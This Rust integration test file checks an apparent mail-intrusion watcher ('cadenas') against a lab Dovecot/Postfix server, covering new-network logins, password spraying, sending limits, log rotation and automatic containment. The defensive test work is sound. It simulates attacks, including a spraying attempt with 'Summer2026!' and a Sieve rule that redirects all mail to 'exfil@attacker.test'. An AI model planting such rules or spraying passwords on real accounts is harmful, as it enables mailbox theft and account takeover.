//! `cadenas::watch` over the lab Dovecot's real login log: logins and failures made over IMAP
//! from loopback addresses of the test's own, the watcher following the log as Dovecot writes
//! it. Other tests log in at the same time: only alerts about this test's accounts and
//! addresses are looked at.

use std::time::Duration;

use cadenas::incident::AutoOutcome;
use cadenas::journal::Event;
use cadenas::watch::{Alert, AlertRule, HandledAlert, WatchConfig, WatchService, Watcher};

use crate::support::smtp::Smtp;
use crate::support::{dovecot_env, Imap, OpenLdapLab};

/// Polls until `want` holds for the alerts raised so far (Dovecot writes its log line a moment
/// after the login), at most 10 s.
async fn poll_until(w: &mut Watcher, want: impl FnMut(&[Alert]) -> bool) -> Vec<Alert> {
    poll_for(w, 100, want).await
}

/// What a second of polling raises (when nothing is expected).
async fn poll_a_second(w: &mut Watcher) -> Vec<Alert> {
    poll_for(w, 10, |_| false).await
}

async fn poll_for(w: &mut Watcher, rounds: usize, mut want: impl FnMut(&[Alert]) -> bool) -> Vec<Alert> {
    let mut all = Vec::new();
    for _ in 0..rounds {
        all.extend(w.poll().expect("poll"));
        if want(&all) {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    all
}

fn config(tag: &str) -> WatchConfig {
    let log = dovecot_env()["CADENAS_LAB_DOVECOT_LOG"].clone();
    let state = std::env::temp_dir().join(format!("cadenas-watch-{tag}-{}.db", std::process::id()));
    for suffix in ["", "-wal", "-shm"] {
        let _ = std::fs::remove_file(format!("{}{suffix}", state.display()));
    }
    let mut cfg = WatchConfig::new(vec![log.into()], state);
    // the other tests' logins go through the same log: the hourly cap must not drop this one's
    cfg.max_alerts_per_hour = 1_000_000;
    cfg
}

/// A loopback /24 of this test process's own (the attacker's network).
fn own_net(base: u32) -> String {
    let pid = std::process::id();
    format!("127.{}.{}", base + pid % 50, 1 + (pid / 50) % 250)
}

#[tokio::test]
async fn a_login_from_a_new_network_raises_one_alert_with_the_containment() {
    let lab = OpenLdapLab::load();
    let imap = dovecot_env()["CADENAS_LAB_IMAP"].clone();
    let (user, _) = lab.fresh_user("watch-net").await;
    let user = user.to_string();
    let mut w = Watcher::open(&config("net")).expect("watcher");
    let pw = lab.get("CADENAS_LAB_USER_PW").to_owned();
    // the account's usual network, learned
    let home = format!("{}.10", own_net(100));
    let _usual = Imap::login_from(&imap, &home, &user, &pw).await.expect("login");
    let seen = poll_a_second(&mut w).await;
    assert!(
        !seen
            .iter()
            .any(|a| a.account.as_deref() == Some(&user.to_lowercase())),
        "an account's first network is learned, not alerted: {seen:?}"
    );
    // the attacker's: another /24
    let attacker = format!("{}.66", own_net(150));
    let _attack = Imap::login_from(&imap, &attacker, &user, &pw)
        .await
        .expect("login");
    let alerts = poll_until(&mut w, |a| a.iter().any(|a| a.ip == attacker)).await;
    let mine: Vec<&Alert> = alerts.iter().filter(|a| a.ip == attacker).collect();
    assert_eq!(mine.len(), 1, "{alerts:?}");
    assert_eq!(mine[0].rule, AlertRule::NewNetwork);
    assert_eq!(mine[0].account.as_deref(), Some(user.to_lowercase().as_str()));
    assert_eq!(
        mine[0].command,
        format!("cadenas contain --from-ip {attacker}/32")
    );
    let sms = mine[0].sms_text(cadenas::notify::Language::Fr);
    assert!(
        sms.chars().count() <= 160 && sms.contains("nouveau réseau"),
        "{sms}"
    );
    assert!(!sms.contains(&pw));
    // again from there: deduplicated
    let _again = Imap::login_from(&imap, &attacker, &user, &pw)
        .await
        .expect("login");
    tokio::time::sleep(Duration::from_millis(500)).await;
    let more = poll_a_second(&mut w).await;
    assert!(!more.iter().any(|a| a.ip == attacker), "{more:?}");
}

#[tokio::test]
async fn one_address_failing_on_many_accounts_is_one_alert_and_a_restart_repeats_nothing() {
    let lab = OpenLdapLab::load();
    let imap = dovecot_env()["CADENAS_LAB_IMAP"].clone();
    let cfg = config("many");
    let mut w = Watcher::open(&cfg).expect("watcher");
    let sprayer = format!("{}.77", own_net(200));
    let mut users = Vec::new();
    for i in 0..5 {
        users.push(lab.fresh_user(&format!("watch-spray{i}")).await.0.to_string());
    }
    // password spraying: one wrong password on each account, at once
    let tries = users
        .iter()
        .map(|u| Imap::login_from(&imap, &sprayer, u, "Summer2026!"));
    for r in futures_util::future::join_all(tries).await {
        assert!(Imap::refused(&r), "a wrong password is refused");
    }
    let alerts = poll_until(&mut w, |a| a.iter().any(|a| a.ip == sprayer)).await;
    let mine: Vec<&Alert> = alerts.iter().filter(|a| a.ip == sprayer).collect();
    assert_eq!(mine.len(), 1, "{alerts:?}");
    assert_eq!(mine[0].rule, AlertRule::ManyAccounts);
    assert!(mine[0].detail.starts_with("5 accounts"), "{:?}", mine[0]);
    // a restart (the watcher dropped, as a crash would): nothing read again, nothing alerted
    // again; the alert raised is still waiting to be delivered
    drop(w);
    let mut again = Watcher::open(&cfg).expect("reopen");
    let after = poll_a_second(&mut again).await;
    assert!(!after.iter().any(|a| a.ip == sprayer), "{after:?}");
    let unsent = again.unsent().expect("unsent");
    let (id, waiting) = unsent
        .iter()
        .find(|(_, a)| a.ip == sprayer)
        .expect("still to deliver");
    assert_eq!(waiting, mine[0]);
    again.mark_sent(*id).expect("sent");
    assert!(!again
        .unsent()
        .expect("unsent")
        .iter()
        .any(|(_, a)| a.ip == sprayer));

    // the same logs replayed: the same alert, from a state of its own
    let replayed = Watcher::replay(&cfg, &cfg.dovecot_logs, None).expect("replay");
    assert!(
        replayed
            .iter()
            .any(|a| a.ip == sprayer && a.rule == AlertRule::ManyAccounts),
        "{replayed:?}"
    );
}

/// The lab Dovecot's log lines about some accounts, copied as Dovecot writes them into a log
/// of the test's own: the service under test then sees this test's real logins only (the other
/// tests' logins, through the same Dovecot, would take the hourly places of its rails).
struct Copied {
    from: std::path::PathBuf,
    offset: u64,
    to: std::path::PathBuf,
    needles: Vec<String>,
}

impl Copied {
    fn new(tag: &str, users: &[&str]) -> Self {
        let from = std::path::PathBuf::from(dovecot_env()["CADENAS_LAB_DOVECOT_LOG"].clone());
        Self::of(from, tag, users.iter().map(|u| format!("user=<{u}>")).collect())
    }

    /// The lines of `from` holding one of `needles`, into a log of the test's own.
    fn of(from: std::path::PathBuf, tag: &str, needles: Vec<String>) -> Self {
        let offset = std::fs::metadata(&from).expect("log").len();
        let to = std::env::temp_dir().join(format!("cadenas-watch-{tag}-{}.log", std::process::id()));
        std::fs::write(&to, "").expect("own log");
        Self {
            from,
            offset,
            to,
            needles,
        }
    }

    /// Copies the whole lines written since the last call that name one of the accounts.
    fn sync(&mut self) {
        let to = self.to.clone();
        self.sync_into(&to);
    }

    /// [`sync`](Self::sync) into `to` (created if missing: a log rotated away).
    fn sync_into(&mut self, to: &std::path::Path) {
        use std::io::{Read, Seek, Write};
        let mut f = std::fs::File::open(&self.from).expect("log");
        f.seek(std::io::SeekFrom::Start(self.offset)).expect("seek");
        let mut new = Vec::new();
        f.read_to_end(&mut new).expect("read");
        let Some(end) = new.iter().rposition(|b| *b == b'\n') else {
            return;
        };
        self.offset += end as u64 + 1;
        let mut out = std::fs::OpenOptions::new()
            .create(true)
            .append(true)
            .open(to)
            .expect("own log");
        for line in String::from_utf8_lossy(&new[..=end]).lines() {
            if self.needles.iter().any(|n| line.contains(n.as_str())) {
                writeln!(out, "{line}").expect("copy");
            }
        }
    }
}

/// The service's rounds until `want` holds for what it handled so far, at most 15 s.
async fn rounds_until(
    service: &mut WatchService,
    copied: &mut Copied,
    mut want: impl FnMut(&[HandledAlert]) -> bool,
) -> Vec<HandledAlert> {
    let mut all = Vec::new();
    for _ in 0..150 {
        copied.sync();
        all.extend(service.poll().await.expect("round"));
        if want(&all) {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    all
}

/// The lab config with the Dovecot revoker, the journal at `journal`, `[watch]` over `log`
/// with `auto_contain`, and an SMS gateway (the lab's HTTPS receiver) told of alerts and of
/// what needs attention.
fn service_config(
    lab: &OpenLdapLab,
    tag: &str,
    log: &std::path::Path,
    auto_contain: &str,
    port: u16,
    watch_extra: &str,
    more: &str,
) -> (cadenas::Config, std::path::PathBuf) {
    let journal = crate::incident::temp_journal(tag);
    let dir = std::env::temp_dir();
    let state = dir.join(format!("cadenas-watch-{tag}-{}.db", std::process::id()));
    for suffix in ["", "-wal", "-shm"] {
        let _ = std::fs::remove_file(format!("{}{suffix}", state.display()));
    }
    let key_file = dir.join(format!("cadenas-watch-sms-key-{}", std::process::id()));
    std::fs::write(&key_file, "sms-gateway-signing-key\n").expect("key");
    let extra = format!(
        "[watch]\ndovecot_logs = [\"{}\"]\nstate = \"{}\"\n{watch_extra}\n[watch.auto_contain]\n{auto_contain}\n\
         [[notify]]\nname = \"sms\"\ntype = \"webhook\"\nevents = [\"alert\", \"needs_attention\"]\n\
         url = \"https://127.0.0.1:{port}/sms\"\nca_file = \"{}\"\nsecret_file = \"{}\"\n",
        log.display(),
        state.display(),
        lab.get("CADENAS_LAB_CA"),
        key_file.display(),
    );
    (
        crate::outbound::mail_config(lab, &journal, &format!("{extra}\n{more}")),
        journal,
    )
}

/// What the SMS gateway received, as JSON, by kind.
fn gateway(received: &crate::revokers::Received, kind: &str) -> Vec<serde_json::Value> {
    received
        .lock()
        .expect("received")
        .iter()
        .map(|(headers, body)| {
            let ts: u64 = headers[crate::support::TIMESTAMP_HEADER]
                .parse()
                .expect("timestamp");
            assert_eq!(
                headers[crate::support::SIGNATURE_HEADER],
                crate::support::webhook_signature("sms-gateway-signing-key", ts, body),
                "signed"
            );
            serde_json::from_slice::<serde_json::Value>(body).expect("json")
        })
        .filter(|v| v["kind"] == kind)
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_alert_reaches_the_sms_gateway_is_journaled_and_a_rule_contains_within_its_rails() {
    let lab = OpenLdapLab::load();
    let imap = dovecot_env()["CADENAS_LAB_IMAP"].clone();
    let pw = lab.get("CADENAS_LAB_USER_PW").to_owned();
    let (a, _) = lab.fresh_user("watch-auto-a").await;
    let (b, _) = lab.fresh_user("watch-auto-b").await;
    let (a, b) = (a.to_string().to_lowercase(), b.to_string().to_lowercase());
    let mut copied = Copied::new("auto", &[&a, &b]);
    let (port, received) = crate::revokers::receiver(vec![200], 0).await;
    let (cfg, journal) = service_config(
        &lab,
        "watch-auto",
        &copied.to,
        "rules = [\"new_network\"]\nmax_per_hour = 1\ndry_run = false",
        port,
        "",
        "",
    );
    let mut service = WatchService::new(&cfg).expect("service");
    // their usual network, learned
    let home = format!("{}.10", own_net(100));
    for u in [&a, &b] {
        Imap::login_from(&imap, &home, u, &pw).await.expect("login");
    }
    let learned = rounds_until(&mut service, &mut copied, |_| false).await;
    assert!(learned.is_empty(), "{learned:?}");
    // the attacker's network, on both
    let attacker = format!("{}.66", own_net(150));
    for u in [&a, &b] {
        Imap::login_from(&imap, &attacker, u, &pw).await.expect("login");
    }
    let handled = rounds_until(&mut service, &mut copied, |h| h.len() >= 2).await;
    assert_eq!(handled.len(), 2, "{handled:#?}");
    let of = |u: &str| {
        handled
            .iter()
            .find(|h| h.alert.account.as_deref() == Some(u))
            .expect("an alert for the account")
    };
    let (ha, hb) = (of(&a), of(&b));
    // the first one takes the hour's one place, the second finds it taken (in the order raised)
    let first_is_a = handled[0].alert.account.as_deref() == Some(a.as_str());
    let (contained, capped) = if first_is_a { (ha, hb) } else { (hb, ha) };
    let incident = match &contained.automatic {
        Some(AutoOutcome::Contained { incident }) => incident.clone(),
        other => panic!("contained automatically: {other:?}"),
    };
    assert_eq!(capped.automatic, Some(AutoOutcome::CapReached { recent: 1 }));
    let (c_user, k_user) = (
        contained.alert.account.clone().expect("account"),
        capped.alert.account.clone().expect("account"),
    );
    assert!(crate::outbound::locked(&cfg, &c_user).await, "{c_user} locked");
    assert!(
        !crate::outbound::locked(&cfg, &k_user).await,
        "{k_user}: over the hourly cap"
    );
    for h in [ha, hb] {
        assert_eq!(h.alert.rule, AlertRule::NewNetwork);
        assert_eq!(h.alert.ip, attacker);
        assert!(h.alert.id.starts_with("ALR-"), "{}", h.alert.id);
        assert_eq!(h.notifications.len(), 1, "{h:?}");
        assert!(h.notifications[0].delivered, "{h:?}");
    }

    // the SMS gateway: one alert each, its text the SMS line with the command; and the
    // automatic containment's own notice, saying what it did and why
    let alerts = gateway(&received, "alert");
    assert_eq!(alerts.len(), 2, "{alerts:#?}");
    for v in &alerts {
        let text = v["text"].as_str().expect("text");
        assert!(text.chars().count() <= 160, "{text}");
        assert!(
            text.contains(&format!("cadenas contain --from-ip {attacker}/32")),
            "{text}"
        );
        assert_eq!(v["alert"]["rule"], "new_network");
        assert!(!text.contains(&pw));
    }
    let attention = gateway(&received, "needs_attention");
    let said: Vec<String> = attention
        .iter()
        .map(|v| v["users"][0]["summary"].as_str().unwrap_or_default().to_owned())
        .collect();
    assert!(
        said.iter().any(|s| s.starts_with("contained automatically")),
        "{said:?}"
    );
    assert!(
        said.iter().any(|s| s.starts_with("NOT contained automatically")),
        "{said:?}"
    );

    // the journal: each alert under its own identifier, and the containment saying it was
    // automatic and why
    let records = cadenas::journal::read(&journal).expect("journal");
    for h in [ha, hb] {
        let rec = records
            .iter()
            .find(|r| r.incident == h.alert.id)
            .expect("the alert journaled");
        match &rec.event {
            Event::Alert {
                alert,
                automatic,
                notifications,
            } => {
                assert_eq!(alert, &h.alert);
                assert_eq!(automatic, &h.automatic);
                assert_eq!(notifications.len(), 1);
            }
            other => panic!("{other:?}"),
        }
    }
    let note = records
        .iter()
        .filter(|r| r.incident == incident)
        .find_map(|r| match &r.event {
            Event::IncidentStart { note, .. } => note.clone(),
            _ => None,
        })
        .expect("the containment's start");
    assert!(
        note.starts_with(&format!(
            "automatic containment by the watcher: alert {}, rule new_network: {c_user} from {attacker}",
            contained.alert.id
        )),
        "{note}"
    );
    // a restart: nothing handled twice
    drop(service);
    let mut again = WatchService::new(&cfg).expect("restart");
    let after = rounds_until(&mut again, &mut copied, |_| false).await;
    assert!(after.is_empty(), "{after:?}");
    let _ = std::fs::remove_file(&copied.to);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_dry_run_only_says_would_contain_and_a_protected_account_is_never_contained() {
    let lab = OpenLdapLab::load();
    let imap = dovecot_env()["CADENAS_LAB_IMAP"].clone();
    let pw = lab.get("CADENAS_LAB_USER_PW").to_owned();
    let (c, _) = lab.fresh_user("watch-dry").await;
    let (p, p_dn) = lab.fresh_user("watch-protected").await;
    let (c, p) = (c.to_string().to_lowercase(), p.to_string().to_lowercase());
    let protected = lab.get("CADENAS_LAB_ADMINS_GROUP").to_owned();
    let mut admin = lab.admin().await;
    crate::outbound::member_of(&mut admin, &protected, p_dn.as_str(), true).await;
    let mut copied = Copied::new("dry", &[&c, &p]);
    let (port, received) = crate::revokers::receiver(vec![200], 0).await;
    let (cfg, journal) = service_config(
        &lab,
        "watch-dry",
        &copied.to,
        "rules = [\"new_network\"]\nmax_per_hour = 10",
        port,
        "",
        "",
    );
    let mut service = WatchService::new(&cfg).expect("service");
    let home = format!("{}.10", own_net(100));
    let attacker = format!("{}.67", own_net(150));
    for u in [&c, &p] {
        Imap::login_from(&imap, &home, u, &pw).await.expect("login");
    }
    let learned = rounds_until(&mut service, &mut copied, |_| false).await;
    assert!(learned.is_empty(), "{learned:?}");
    for u in [&c, &p] {
        Imap::login_from(&imap, &attacker, u, &pw).await.expect("login");
    }
    let handled = rounds_until(&mut service, &mut copied, |h| h.len() >= 2).await;
    let still_locked = crate::outbound::locked(&cfg, &p).await;
    crate::outbound::member_of(&mut admin, &protected, p_dn.as_str(), false).await;
    assert_eq!(handled.len(), 2, "{handled:#?}");
    let of = |u: &str| {
        handled
            .iter()
            .find(|h| h.alert.account.as_deref() == Some(u))
            .and_then(|h| h.automatic.clone())
    };
    assert_eq!(of(&c), Some(AutoOutcome::WouldContain));
    match of(&p) {
        Some(AutoOutcome::Refused { error }) => assert!(error.contains("protected"), "{error}"),
        other => panic!("a protected account is refused: {other:?}"),
    }
    assert!(
        !crate::outbound::locked(&cfg, &c).await,
        "a dry run changes nothing"
    );
    assert!(!still_locked, "a protected account is never contained");
    // nothing but the alerts in the journal: no containment ran
    let records = cadenas::journal::read(&journal).expect("journal");
    assert!(
        records.iter().all(|r| matches!(r.event, Event::Alert { .. })),
        "{records:#?}"
    );
    assert_eq!(records.len(), 2);
    let attention = gateway(&received, "needs_attention");
    assert!(
        attention.iter().any(
            |v| v["users"][0]["summary"] == "would be contained automatically (dry run: nothing changed)"
        ),
        "{attention:#?}"
    );
    let _ = std::fs::remove_file(&copied.to);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_mail_rule_sending_outside_uploaded_over_managesieve_is_an_alert_and_contains() {
    let lab = OpenLdapLab::load();
    let (u, _) = lab.fresh_user("watch-sieve").await;
    let u = u.to_string().to_lowercase();
    let mut copied = Copied::new("sieve", &[&u]);
    let (port, received) = crate::revokers::receiver(vec![200], 0).await;
    let (cfg, journal) = service_config(
        &lab,
        "watch-sieve",
        &copied.to,
        "rules = [\"outside_mail_rule\"]\nmax_per_hour = 5\ndry_run = false",
        port,
        "mail_rule_checks_secs = [1]",
        "",
    );
    let mut service = WatchService::new(&cfg).expect("service");
    // a rule that keeps mail inside: read, nothing to say
    crate::investigate::upload_sieve(
        &lab,
        &u,
        "away",
        "require \"vacation\";\nvacation \"away\";\n",
        true,
    );
    let quiet = rounds_until(&mut service, &mut copied, |_| false).await;
    assert!(quiet.is_empty(), "{quiet:#?}");
    // the attacker's: every message to an outside address
    crate::investigate::upload_sieve(&lab, &u, "fwd", "redirect \"exfil@attacker.test\";\n", true);
    let handled = rounds_until(&mut service, &mut copied, |h| {
        h.iter().any(|h| h.alert.rule == AlertRule::OutsideMailRule)
    })
    .await;
    let mine: Vec<&HandledAlert> = handled
        .iter()
        .filter(|h| h.alert.rule == AlertRule::OutsideMailRule)
        .collect();
    assert_eq!(mine.len(), 1, "{handled:#?}");
    let h = mine[0];
    assert_eq!(h.alert.account.as_deref(), Some(u.as_str()));
    assert!(
        h.alert.detail.contains("\"fwd\"") && h.alert.detail.contains("exfil@attacker.test"),
        "{}",
        h.alert.detail
    );
    assert_eq!(h.alert.command, format!("cadenas contain {u}"));
    assert!(
        matches!(&h.automatic, Some(AutoOutcome::Contained { .. })),
        "{:?}",
        h.automatic
    );
    assert!(crate::outbound::locked(&cfg, &u).await, "contained");
    // the SMS: the rule in words, the command
    let sms = gateway(&received, "alert");
    assert!(
        sms.iter().any(|v| v["text"]
            .as_str()
            .is_some_and(|t| t.contains("mail sent outside") && t.contains(&format!("cadenas contain {u}")))),
        "{sms:#?}"
    );
    let records = cadenas::journal::read(&journal).expect("journal");
    assert!(records.iter().any(|r| r.incident == h.alert.id));
    let _ = std::fs::remove_file(&copied.to);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn smtp_logins_in_postfixs_log_and_the_policy_services_limits_are_alerts() {
    let lab = OpenLdapLab::load();
    let (sender, _) = lab.fresh_user("watch-smtp").await;
    let sender = sender.to_string().to_lowercase();
    let pid = std::process::id();
    let db = std::env::temp_dir().join(format!("cadenas-watch-policy-{pid}.db"));
    let _ = std::fs::remove_file(&db);
    let limits = format!(
        "database = \"{}\"\n[[outbound.limits]]\ncounts = \"messages\"\nmax = 2\nwindow_secs = 600\naction = \"DEFER_IF_PERMIT\"\n",
        db.display()
    );
    let postfix_log = std::path::PathBuf::from(crate::support::smtp_env()["CADENAS_LAB_SMTP_LOG"].clone());
    let mut copied = Copied::of(postfix_log, "smtp", vec![format!("sasl_username={sender}")]);
    let (port, received) = crate::revokers::receiver(vec![200], 0).await;
    let dovecot_none = std::env::temp_dir().join(format!("cadenas-watch-none-{pid}.log"));
    std::fs::write(&dovecot_none, "").expect("log");
    let (cfg, _journal) = service_config(
        &lab,
        "watch-smtp",
        &dovecot_none,
        "",
        port,
        &format!(
            "postfix_logs = [\"{}\"]\npolicy_database = \"{}\"",
            copied.to.display(),
            db.display()
        ),
        &crate::outbound::outbound_and_postfix(&limits),
    );
    let (_guard, at) = crate::support::policy_address().await;
    let _policy = crate::outbound::start(&cfg, &at).await;
    let mut service = WatchService::new(&cfg).expect("service");
    let pw = crate::outbound::pw(&lab);
    let home = format!("{}.81", own_net(100));
    let attacker = format!("{}.82", own_net(150));
    let mut ids = Vec::new();
    // one message from home: the account's network, learned from Postfix's log
    let mut s = Smtp::login_from(&home, &sender, &pw).await.expect("login");
    ids.push(
        s.send("a@bank.test", &["r1@bulk-target.test"], "one")
            .await
            .expect("sent"),
    );
    let learned = rounds_until(&mut service, &mut copied, |_| false).await;
    assert!(learned.is_empty(), "{learned:#?}");
    // the attacker: one message, then one over the limit
    let mut s = Smtp::login_from(&attacker, &sender, &pw).await.expect("login");
    ids.push(
        s.send("a@bank.test", &["r2@bulk-target.test"], "two")
            .await
            .expect("sent"),
    );
    let (code, _) = s
        .send("a@bank.test", &["r3@bulk-target.test"], "three")
        .await
        .expect_err("deferred");
    assert_eq!(code, 450);
    let handled = rounds_until(&mut service, &mut copied, |h| h.len() >= 2).await;
    crate::support::smtp::delete_queued(&ids);
    let rules: Vec<(AlertRule, &str, &str)> = handled
        .iter()
        .map(|h| {
            (
                h.alert.rule,
                h.alert.account.as_deref().unwrap_or(""),
                h.alert.ip.as_str(),
            )
        })
        .collect();
    assert!(
        rules.contains(&(AlertRule::NewNetwork, sender.as_str(), attacker.as_str())),
        "{handled:#?}"
    );
    let limit = handled
        .iter()
        .find(|h| h.alert.rule == AlertRule::SendingLimit)
        .expect("the limit exceeded is an alert");
    assert_eq!(limit.alert.account.as_deref(), Some(sender.as_str()));
    assert_eq!(limit.alert.ip, attacker);
    assert!(
        limit.alert.detail.contains("3 messages within 600 s (limit 2)"),
        "{}",
        limit.alert.detail
    );
    assert_eq!(limit.alert.command, format!("cadenas contain {sender}"));
    assert_eq!(gateway(&received, "alert").len(), 2);
    // restarted: the limits already read are not alerted again
    drop(service);
    let mut again = WatchService::new(&cfg).expect("restart");
    assert!(rounds_until(&mut again, &mut copied, |_| false).await.is_empty());
    let _ = std::fs::remove_file(&copied.to);
    let _ = std::fs::remove_file(&db);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rotations_both_ways_and_a_restart_between_miss_no_login() {
    let lab = OpenLdapLab::load();
    let imap = dovecot_env()["CADENAS_LAB_IMAP"].clone();
    let pw = lab.get("CADENAS_LAB_USER_PW").to_owned();
    let mut users = Vec::new();
    for i in 0..3 {
        users.push(
            lab.fresh_user(&format!("watch-rot{i}"))
                .await
                .0
                .to_string()
                .to_lowercase(),
        );
    }
    let names: Vec<&str> = users.iter().map(String::as_str).collect();
    let mut copied = Copied::new("rotate", &names);
    let (port, _received) = crate::revokers::receiver(vec![200], 0).await;
    let (cfg, _journal) = service_config(&lab, "watch-rotate", &copied.to, "", port, "", "");
    let mut service = WatchService::new(&cfg).expect("service");
    let home = format!("{}.10", own_net(100));
    let attacker = format!("{}.66", own_net(150));
    let login = |user: String, ip: String| {
        let (imap, pw) = (imap.clone(), pw.clone());
        async move { Imap::login_from(&imap, &ip, &user, &pw).await.expect("login") }
    };
    for u in &users {
        login(u.clone(), home.clone()).await;
    }
    assert!(rounds_until(&mut service, &mut copied, |_| false)
        .await
        .is_empty());
    let log = copied.to.clone();
    let rotated = log.with_extension("log.1");
    let truncated = log.with_extension("log.2");

    // rename-and-create while the service is down: the first attack lands in the renamed
    // file (Dovecot writes there until it reopens), the second in the new one
    drop(service);
    std::fs::rename(&log, &rotated).expect("rename");
    login(users[0].clone(), attacker.clone()).await;
    tokio::time::sleep(Duration::from_millis(300)).await;
    copied.sync_into(&rotated);
    std::fs::write(&log, "").expect("the new log");
    login(users[1].clone(), attacker.clone()).await;
    let mut service = WatchService::new(&cfg).expect("restart");
    let got = rounds_until(&mut service, &mut copied, |h| h.len() >= 2).await;
    let mut who: Vec<String> = got.iter().filter_map(|h| h.alert.account.clone()).collect();
    who.sort();
    assert_eq!(who, [users[0].clone(), users[1].clone()], "{got:#?}");

    // copytruncate while it runs: the file copied away and cut to nothing, then written on
    std::fs::copy(&log, &truncated).expect("copy");
    std::fs::OpenOptions::new()
        .write(true)
        .open(&log)
        .and_then(|f| f.set_len(0))
        .expect("truncate");
    login(users[2].clone(), attacker.clone()).await;
    let got = rounds_until(&mut service, &mut copied, |h| !h.is_empty()).await;
    assert_eq!(got.len(), 1, "{got:#?}");
    assert_eq!(got[0].alert.account.as_deref(), Some(users[2].as_str()));
    assert!(
        rounds_until(&mut service, &mut copied, |_| false)
            .await
            .is_empty(),
        "nothing twice"
    );
    for f in [log, rotated, truncated] {
        let _ = std::fs::remove_file(f);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_journal_held_by_a_containment_delays_the_record_not_the_sms() {
    let lab = OpenLdapLab::load();
    let imap = dovecot_env()["CADENAS_LAB_IMAP"].clone();
    let pw = lab.get("CADENAS_LAB_USER_PW").to_owned();
    let (u, _) = lab.fresh_user("watch-busy").await;
    let u = u.to_string().to_lowercase();
    let mut copied = Copied::new("busy", &[&u]);
    let (port, received) = crate::revokers::receiver(vec![200], 0).await;
    let (cfg, journal) = service_config(&lab, "watch-busy", &copied.to, "", port, "", "");
    let mut service = WatchService::new(&cfg).expect("service");
    Imap::login_from(&imap, &format!("{}.10", own_net(100)), &u, &pw)
        .await
        .expect("login");
    assert!(rounds_until(&mut service, &mut copied, |_| false)
        .await
        .is_empty());
    // another process's writer holds the journal (a containment running): its lock
    std::fs::write(&journal, "").expect("journal");
    let held = std::fs::File::open(&journal).expect("open");
    held.lock().expect("lock");
    Imap::login_from(&imap, &format!("{}.66", own_net(150)), &u, &pw)
        .await
        .expect("login");
    let mut sent = false;
    for _ in 0..100 {
        copied.sync();
        let t = std::time::Instant::now();
        let got = service.poll().await.expect("a round");
        assert!(got.is_empty(), "not journaled yet: {got:#?}");
        assert!(
            t.elapsed() < Duration::from_secs(2),
            "a round never waits for the lock"
        );
        if !gateway(&received, "alert").is_empty() {
            sent = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert!(sent, "the SMS went out while the journal was held");
    drop(held);
    let got = rounds_until(&mut service, &mut copied, |h| !h.is_empty()).await;
    assert_eq!(got.len(), 1, "{got:#?}");
    assert_eq!(gateway(&received, "alert").len(), 1, "not sent twice");
    let records = cadenas::journal::read(&journal).expect("journal");
    assert!(records.iter().any(|r| r.incident == got[0].alert.id));
    let _ = std::fs::remove_file(&copied.to);
}
